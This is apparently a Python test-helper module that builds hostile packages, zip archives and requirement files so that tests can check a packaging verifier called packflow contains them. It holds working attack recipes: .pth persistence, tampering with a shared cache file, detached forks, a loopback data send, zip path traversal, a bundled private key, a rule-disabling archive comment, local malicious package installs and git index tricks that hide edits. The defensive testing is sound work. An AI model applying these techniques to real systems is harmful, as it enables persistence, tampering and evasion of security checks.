"""The attacks of issue 15 (items 1-8), built from a default bake, for the tests that show each is contained.

Each backend recipe edits a copy of the default bake so `initialize()` attempts its attack and prints one line
`ATTACK {"name": ..., "outcome": ...}` (an OSError's errno when it was stopped), then goes on loading as usual:
the attacker does not need the proof to fail. Archives are written with Python's zipfile, as an attacker would,
never with export (which refuses most of them).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Iterable, Optional

from helpers import edit

INITIALIZE = '        self.positive_words = {"good", "great", "excellent", "love", "happy"}'
POISON_MARKER = "PACKFLOW-POISON-RAN"
INODE_MARKER = "PACKFLOW-INODE-PAYLOAD"
PEM = ("-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpF\n"
       "p1Hm5eOGwU7CPdlJu8CpBGmgUXcyObAVHPWIDrEoY1YNHuq7uTjo1pdSdxAY0lPn\n-----END RSA PRIVATE KEY-----\n")
# Item 1: what the archive's zip comment says about its own verdict.
PERMISSIVE_COMMENT = {"tool": "packflow_export 0.1.0",
                      "policy": {"severity": {"PF805": "off", "PF801": "off", "PF902": "off", "PF904": "off"}}}
# Item 7: requirement lines and options that install from the verifier's machine instead of the index
# ({index}: a simple index folder, {wheel}: a wheel file, {repo}: a git repository; all absolute paths).
LOCAL_FORMS = {
    "index-url-file": "--index-url file://{index}\nevilpkg==1.0\n",
    "index-url-equals-file": "--index-url=file://{index}\nevilpkg==1.0\n",
    "i-absolute-path": "-i {index}\nevilpkg==1.0\n",
    "git-file-url": "evilpkg @ git+file://{repo}\n",
    "upper-case-file-url": "evilpkg @ FILE://{wheel}\n",
    "file-url": "evilpkg @ file://{wheel}\n",
}
BRANCH_REFERENCE = "mylib @ git+https://example.org/mylib.git@main\n"  # a branch is not a pin (PF404)


def attack(project: Path, name: str, body: str, imports: str = "import os, sys") -> Path:
    """Make `initialize()` run `body` (which sets `outcome`) and report it on stdout before loading as usual."""
    indented = "\n".join("            " + line if line else "" for line in body.strip("\n").splitlines())
    code = (f"        import json\n        {imports}\n        try:\n{indented}\n"
            f"        except OSError as exc:\n            outcome = f\"{{type(exc).__name__}} errno {{exc.errno}}\"\n"
            f"        print('ATTACK ' + json.dumps({{'name': {name!r}, 'outcome': outcome}}), flush=True)\n")
    edit(project / "inference.py", INITIALIZE, code + INITIALIZE)
    return project


def outcomes(stdout: str) -> dict[str, str]:
    """The ATTACK lines a run printed, by name."""
    found = {}
    for line in stdout.splitlines():
        if line.startswith("ATTACK "):
            data = json.loads(line[len("ATTACK "):])
            found[data["name"]] = data["outcome"]
    return found


def poison_pth(project: Path) -> Path:
    """Item 2: plant a .pth in the environment's site-packages, which every later interpreter start runs."""
    return attack(project, "poison-pth", f"""
import sysconfig
target = os.path.join(sysconfig.get_paths()["purelib"], "zz_poison.pth")
with open(target, "w") as handle:
    handle.write("import sys; print({POISON_MARKER!r}, file=sys.stderr)\\n")
outcome = "written " + target
""")


def shared_inode(project: Path) -> Path:
    """Item 3: append to packflow/__init__.py, which is uv's cache's own file when the environment hardlinks it."""
    return attack(project, "shared-inode", f"""
import packflow
with open(packflow.__file__, "a") as handle:
    handle.write("\\nprint({INODE_MARKER!r})\\n")
outcome = "appended " + packflow.__file__
""")


def fork_and_stay(project: Path, marker: str, setsid: bool) -> Path:
    """Item 4: start a process that sleeps on after the proof (in a new session when `setsid`)."""
    detach = "os.setsid()" if setsid else "pass"
    return attack(project, "fork", f"""
pid = os.fork()
if pid == 0:
    {detach}
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", {marker!r}])
outcome = "forked " + str(pid)
""")


def flood_stdout(project: Path, total: int = 3 << 29) -> Path:
    """Item 5: write `total` bytes (1.5 GiB by default) to stdout from initialize()."""
    return attack(project, "flood", f"""
block = b"x" * (1 << 20)
left = {total}
while left > 0:
    left -= os.write(1, block[:left])
outcome = "wrote {total}"
""")


def connect_out(project: Path, port: int) -> Path:
    """Reach a server on the verifier's loopback (which stands for any network the verifier can reach)."""
    return attack(project, "network", f"""
with socket.create_connection(("127.0.0.1", {port}), timeout=5) as connection:
    connection.sendall(b"stolen")
outcome = "connected"
""", imports="import os, sys, socket")


def write_outside(project: Path, target: Path) -> Path:
    """Write a file at an absolute path outside the proof's folders (a decoy tree)."""
    return attack(project, "write-outside", f"""
with open({str(target)!r}, "w") as handle:
    handle.write("owned")
outcome = "written"
""")


def outside_requirements(project: Path, outside: Path) -> Path:
    """Item 6: requirements.txt that includes a file outside the archive."""
    project.mkdir(parents=True, exist_ok=True)
    (project / "requirements.txt").write_text(f"-r {outside}\npackflow==0.4.1\n", encoding="utf-8")
    return project


def local_requirements(project: Path, form: str, source: dict[str, Path]) -> Path:
    """Item 7: one of LOCAL_FORMS, pointing at a local source made by `local_source`."""
    project.mkdir(parents=True, exist_ok=True)
    (project / "requirements.txt").write_text(LOCAL_FORMS[form].format(**source), encoding="utf-8")
    return project


def local_source(folder: Path) -> dict[str, Path]:
    """What item 7's forms point at: `evilpkg` 1.0 as a wheel, in a simple index, and as a git repository."""
    import base64
    import hashlib

    from helpers import git_commit_all

    files = {"evilpkg/__init__.py": b"print('EVILPKG IMPORTED')\n",
             "evilpkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: evilpkg\nVersion: 1.0\n",
             "evilpkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\n"
                                            b"Tag: py3-none-any\n"}
    record = [f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},"
              f"{len(data)}" for name, data in files.items()] + ["evilpkg-1.0.dist-info/RECORD,,"]
    wheel = folder / "evilpkg-1.0-py3-none-any.whl"
    (folder / "simple" / "evilpkg").mkdir(parents=True)
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.writestr("evilpkg-1.0.dist-info/RECORD", "\n".join(record) + "\n")
    (folder / "simple" / "index.html").write_text('<a href="evilpkg/">evilpkg</a>\n')
    (folder / "simple" / "evilpkg" / "index.html").write_text(f'<a href="../../{wheel.name}">{wheel.name}</a>\n')
    repo = folder / "repo"
    (repo / "evilpkg").mkdir(parents=True)
    (repo / "evilpkg" / "__init__.py").write_text("print('EVILPKG IMPORTED')\n")
    (repo / "setup.py").write_text("from setuptools import setup\nsetup(name='evilpkg', version='1.0', "
                                   "packages=['evilpkg'])\n")
    git_commit_all(repo, "evilpkg")
    return {"index": folder / "simple", "wheel": wheel, "repo": repo}


def archive_of(project: Path, out: Path, *, comment: Optional[dict] = None,
               extra: Iterable[tuple[str, bytes]] = ()) -> Path:
    """A zip of the project's files plus `extra` members (any names), written as an attacker would."""
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(project.rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                archive.write(path, path.relative_to(project).as_posix())
        for name, data in extra:
            archive.writestr(name, data)
        if comment is not None:
            archive.comment = json.dumps(comment).encode()
    return out


def policy_override_archive(clean: Path, out: Path) -> Path:
    """Item 1: a clean archive rewritten with a member three folders up, a private key, and a comment that
    switches off the rules that would catch them."""
    with zipfile.ZipFile(clean) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("../../../victims/x.txt", "written outside the proof's folder\n")
        target.writestr("id_rsa", PEM)
        target.comment = json.dumps(PERMISSIVE_COMMENT).encode()
    return out


def hostile_zip(out: Path, members: Iterable[tuple[str, bytes, int]]) -> Path:
    """A zip whose members have the given names, bytes and Unix modes (links, devices, set-id bits...)."""
    with zipfile.ZipFile(out, "w") as archive:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.create_system = 3
            info.external_attr = (mode & 0xFFFF) << 16
            archive.writestr(info, data)
    return out


def zip_members(path: Path) -> list:
    """An archive's members as packflow_export.unpack.Member (the mode its external attributes declare)."""
    from packflow_export.unpack import Member

    archive = zipfile.ZipFile(path)

    def reader(info: zipfile.ZipInfo):
        def chunks():
            with archive.open(info) as handle:
                while piece := handle.read(1 << 16):
                    yield piece
        return chunks

    return [Member(info.filename, info.external_attr >> 16 if info.create_system == 3 else 0, info.file_size,
                   reader(info)) for info in archive.infolist()]


def release_with_hidden_files(project: Path) -> dict[str, Path]:
    """Item 8: a committed, tagged project, then an excluded file, an assume-unchanged edit of inference.py and
    a skip-worktree edit of validate.py, none of which `git status` shows."""
    from helpers import git, git_commit_all

    git_commit_all(project, "release")
    git(project, "tag", "v0.1.0")
    excluded = project / "notes_excluded.txt"
    excluded.write_text("not in the commit\n", encoding="utf-8")
    info = project / ".git" / "info"
    info.mkdir(parents=True, exist_ok=True)
    with open(info / "exclude", "a", encoding="utf-8") as handle:
        handle.write("notes_excluded.txt\n")
    git(project, "update-index", "--assume-unchanged", "inference.py")
    edit(project / "inference.py", INITIALIZE, INITIALIZE + "\n        self.hidden_edit = True")
    git(project, "update-index", "--skip-worktree", "validate.py")
    with open(project / "validate.py", "a", encoding="utf-8") as handle:
        handle.write("# hidden by skip-worktree\n")
    return {"excluded": excluded, "assume_unchanged": project / "inference.py",
            "skip_worktree": project / "validate.py"}


class Listener:
    """A TCP server on 127.0.0.1 that counts the connections it accepts (none may come from a sandbox)."""

    def __init__(self) -> None:
        self.socket = socket.socket()
        self.socket.bind(("127.0.0.1", 0))
        self.socket.listen(8)
        self.socket.setblocking(False)
        self.port = self.socket.getsockname()[1]

    def accepted(self) -> int:
        count = 0
        while True:
            try:
                connection, _ = self.socket.accept()
            except BlockingIOError:
                return count
            connection.close()
            count += 1

    def close(self) -> None:
        self.socket.close()


def processes_with(marker: str) -> list[int]:
    """Host PIDs of live processes whose command line holds `marker` (zombies excluded)."""
    found = []
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = Path(entry.path, "cmdline").read_bytes()
            state = Path(entry.path, "stat").read_text().rsplit(")", 1)[1].split()[0]
        except OSError:
            continue
        if marker.encode() in cmdline and state != "Z":
            found.append(int(entry.name))
    return found


def snapshot(folder: Path) -> dict[str, tuple]:
    """Every file and link under a folder with its bytes' sha256 (or link target): compare before and after."""
    import hashlib

    state: dict[str, tuple] = {}
    if not folder.exists():
        return state
    for root, folders, files in os.walk(folder):
        for name in files + [f for f in folders if os.path.islink(os.path.join(root, f))]:
            path = os.path.join(root, name)
            relative = os.path.relpath(path, folder)
            if os.path.islink(path):
                state[relative] = ("link", os.readlink(path))
            else:
                state[relative] = ("file", hashlib.sha256(Path(path).read_bytes()).hexdigest())
    return state


def uv_venv(target: Path, requirements: Iterable[str], wheelhouse: Path, cache: Path, *options: str) -> Path:
    """A real environment made by uv from the offline wheelhouse with uv's default link mode (hardlinks into
    `cache`): the kind of bystander a hostile backend could reach through a shared inode."""
    uv = shutil.which("uv") or str(Path(sys.executable).parent / "uv")
    env = {"PATH": os.environ["PATH"], "UV_CACHE_DIR": str(cache), "UV_NO_CONFIG": "1", "HOME": str(cache.parent),
           "UV_PYTHON_DOWNLOADS": "never"}
    subprocess.run([uv, "venv", "-q", "--python", sys.executable, str(target)], check=True, env=env, timeout=120)
    subprocess.run([uv, "pip", "install", "-q", "--python", str(target / "bin" / "python"), "--offline",
                    "--no-index", "--find-links", str(wheelhouse), *options, *requirements],
                   check=True, env=env, timeout=600)
    return target
